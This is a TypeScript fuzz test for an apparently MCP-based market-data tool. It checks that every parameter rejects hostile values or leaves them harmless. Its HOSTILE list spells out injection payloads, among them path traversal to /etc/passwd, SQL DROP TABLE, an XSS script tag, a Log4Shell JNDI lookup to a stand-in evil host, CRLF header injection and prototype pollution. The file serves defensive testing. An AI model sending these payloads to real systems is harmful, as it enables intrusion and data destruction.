/** Each parameter of each capability is parsed with hostile values. */
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CATALOGUE } from "../src/catalogue.js";
import type { Capability } from "../src/contract/capability.js";
import { whyNoSymbol } from "../src/contract/fields.js";
import { MarketDataError } from "../src/contract/errors.js";
import { parseInput } from "../src/contract/input.js";
import type { z } from "../src/contract/schema.js";
import { toolParameters } from "../src/mcp/parameters.js";

const CAPABILITIES = CATALOGUE.map(({ capability }) => capability);

const HOSTILE: readonly unknown[] = [
  "",
  " ",
  "\t",
  "../../etc/passwd",
  "AAPL/../x",
  "AAPL%2F..",
  "..",
  "A..B",
  "AAPL?x=1",
  "AAPL#x",
  "AAPL;x",
  "AAPL,MSFT",
  "AAPL MSFT",
  "AAPL\r\nX-Evil: 1",
  "AAPL\u0000",
  "\u001B[31mAAPL",
  "＜script＞",
  "<script>alert(1)</script>",
  "' OR 1=1 --",
  '"; DROP TABLE stocks; --',
  "${jndi:ldap://evil.example.test/x}",
  "{{7*7}}",
  "ＡＡＰＬ",
  "ААPL",
  "ſ",
  "ı",
  "\u202EAAPL",
  "\u200BAAPL",
  "AAPL\uD800",
  "👾",
  "a".repeat(10_000),
  ",".repeat(10_000),
  "^".repeat(10_000),
  " ".repeat(10_000),
  "[".repeat(10_000),
  "1,000",
  "0x1F",
  "٣",
  // Names that every object inherits.
  "constructor",
  "__proto__",
  "toString",
  ["constructor"],
  ["gdp_constructor"],
  0,
  -1,
  1.5,
  1e9,
  -0,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.MAX_VALUE,
  null,
  true,
  [],
  ["AAPL"],
  {},
  { toString: "AAPL" },
  { __proto__: { polluted: true } },
];

/** The result of parsing raw parameters: input or refusal. */
function parse(capability: Capability, raw: Record<string, unknown>): Record<string, unknown> | MarketDataError {
  try {
    return parseInput(capability, raw, toolParameters(capability));
  } catch (error) {
    if (error instanceof MarketDataError && error.kind === "invalid_input") return error;
    throw error;
  }
}

const SYMBOL = /^\^?[A-Z0-9](?!.*\.\.)[A-Z0-9.\-=&]{0,23}$/;
/** Text that a person may type: short, without control characters. */
const WORDS = /^[^\u0000-\u001F\u007F]{1,100}$/; // oxlint-disable-line no-control-regex

/** Words of a label, some of which are long. */
const LABEL = /^[\w ,.:'()&/-]{1,200}$/;

/** An item of a list that is no symbol is only repeated in its row, never asked for. */
const NOT_ASKED = /^[^\u0000-\u001F\u007F\u200B]{0,64}$/; // oxlint-disable-line no-control-regex
const patternOf = (item: unknown) => (whyNoSymbol(String(item)) === undefined ? SYMBOL : NOT_ASKED);

/** Whether a company, fund or manager may be asked for by its name. */
const takesNames = ({ input }: Capability) =>
  (input.shape as Record<string, z.ZodTypeAny>)["symbol"]?.safeParse("Any Name").success === true;

function expectHarmless(input: Record<string, unknown>, symbol: RegExp): void {
  for (const [name, value] of Object.entries(input)) {
    if (name === "random_string" || value === undefined || typeof value === "boolean") continue;
    if (Array.isArray(value))
      for (const item of value) {
        if (typeof item === "number") expect(Number.isFinite(item)).toBe(true);
        else expect(item).toMatch(name === "symbols" ? patternOf(item) : WORDS);
      }
    else if (typeof value === "number") expect(Number.isFinite(value)).toBe(true);
    else expect(value).toMatch(name === "symbol" ? symbol : name === "concept" ? LABEL : WORDS);
  }
}

/** A refusal is one line of visible characters whose length does not grow with the input. */
function expectReadable({ message }: MarketDataError): void {
  expect(message).toMatch(/^[\p{L}\p{M}\p{N}\p{P}\p{S} ]{1,800}$/u);
  expect(message).not.toMatch(/\p{Default_Ignorable_Code_Point}/u);
}

const ORDINARY: Record<string, unknown> = { symbol: "AAPL", q: "apple", random_string: "x" };

describe("hostile input", () => {
  const parameters = CAPABILITIES.flatMap((capability) =>
    Object.keys({ ...capability.input.shape, ...toolParameters(capability) }).map(
      (name) => [capability.name, name, capability] as const,
    ),
  );

  /** Parses an ordinary input of the capability with one parameter replaced. */
  function expectNoHarm(capability: Capability, name: string, value: unknown): void {
    const known = Object.keys({ ...capability.input.shape, ...toolParameters(capability) });
    const ordinary = Object.fromEntries(known.filter((each) => each in ORDINARY).map((each) => [each, ORDINARY[each]]));
    const outcome = parse(capability, { ...ordinary, [name]: value });
    if (outcome instanceof MarketDataError) expectReadable(outcome);
    else expectHarmless(outcome, takesNames(capability) ? WORDS : SYMBOL);
  }

  it.each(parameters)("to %s as %s is rejected or harmless", (_capability, name, capability) => {
    for (const value of HOSTILE) expectNoHarm(capability, name, value);
    expect("polluted" in {}).toBe(false);
  });

  it.each(parameters)("to %s as %s is rejected or harmless for arbitrary values", (_capability, name, capability) => {
    const values = fc.oneof(fc.anything(), fc.string({ unit: "binary" }));
    const property = fc.property(values, (value) => expectNoHarm(capability, name, value));
    expect(fc.check(property)).toMatchObject({ failed: false });
  });

  it.each(CAPABILITIES.map((capability) => [capability.name, capability] as const))(
    "under an unknown name is refused by %s",
    (_name, capability) => {
      for (const name of ["debt_max", "__proto__", "constructor", "apikey", "x\r\ny", "a".repeat(10_000)]) {
        const raw = Object.defineProperty({}, name, { value: "x", enumerable: true });
        const outcome = parse(capability, raw);
        expect(outcome).toBeInstanceOf(MarketDataError);
        expectReadable(outcome as MarketDataError);
      }
    },
  );
});
